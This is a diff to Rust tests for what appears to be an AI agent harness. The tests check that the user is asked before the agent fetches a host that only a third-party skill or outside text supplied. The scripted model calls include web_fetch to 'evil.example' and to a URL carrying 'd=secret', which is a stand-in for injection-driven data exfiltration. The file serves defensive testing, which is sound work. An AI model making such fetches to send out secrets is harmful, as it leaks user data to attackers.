@@ -287,7 +287,7 @@ async fn after_an_accepted_skill_was_read_only_the_hosts_shown_with_it_need_no_y
     story.model.calls("web_fetch", json!({ "url": "http://evil.example/b" }));
     story.say(ADA, "count them elsewhere").await;
     let asked = story.last_received_by(ADA);
-    assert!(asked.contains("May I open it") && asked.starts_with("I am using a third-party skill"), "{asked}");
+    assert!(asked.contains("Open this address") && asked.contains("because I am using a third-party skill"), "{asked}");
     assert_eq!(web.connections(), 1, "a host that was not shown");
 
     story.say(ADA, "/new").await;
@@ -295,7 +295,7 @@ async fn after_an_accepted_skill_was_read_only_the_hosts_shown_with_it_need_no_y
     story.model.calls("web_fetch", json!({ "url": "http://evil.example/b" }));
     story.say(ADA, "look at the file").await;
     assert!(
-        story.last_received_by(ADA).contains("May I open it"),
+        story.last_received_by(ADA).contains("Open this address"),
         "read as a file it is the same: {}",
         story.last_received_by(ADA)
     );
@@ -307,7 +307,7 @@ async fn after_an_accepted_skill_was_read_only_the_hosts_shown_with_it_need_no_y
     story.model.calls("web_fetch", json!({ "url": "http://birds.example/a?d=secret" }));
     story.say(ADA, "read http://typed.example/b and count").await;
     let asked = story.last_received_by(ADA);
-    assert!(asked.contains("May I open it") && asked.starts_with("I have read text from outside"), "{asked}");
+    assert!(asked.contains("Open this address") && asked.contains("because I have read text from outside"), "{asked}");
     assert_eq!(web.asked(), ["/a", "/b"]);
 
     story.say(ADA, "/new").await;
@@ -340,7 +340,7 @@ async fn output_influenced_by_an_accepted_skill_is_trusted_and_keeps_its_origin(
     story.model.calls("web_fetch", json!({ "url": "http://new.example/a" }));
     story.say(ADA, "count the birds").await;
     assert!(gave(&story).contains("new.example"), "the edit is live: {}", gave(&story));
-    assert!(story.last_received_by(ADA).contains("May I open it"), "{}", story.last_received_by(ADA));
+    assert!(story.last_received_by(ADA).contains("Open this address"), "{}", story.last_received_by(ADA));
     story.end().await;
 }
 
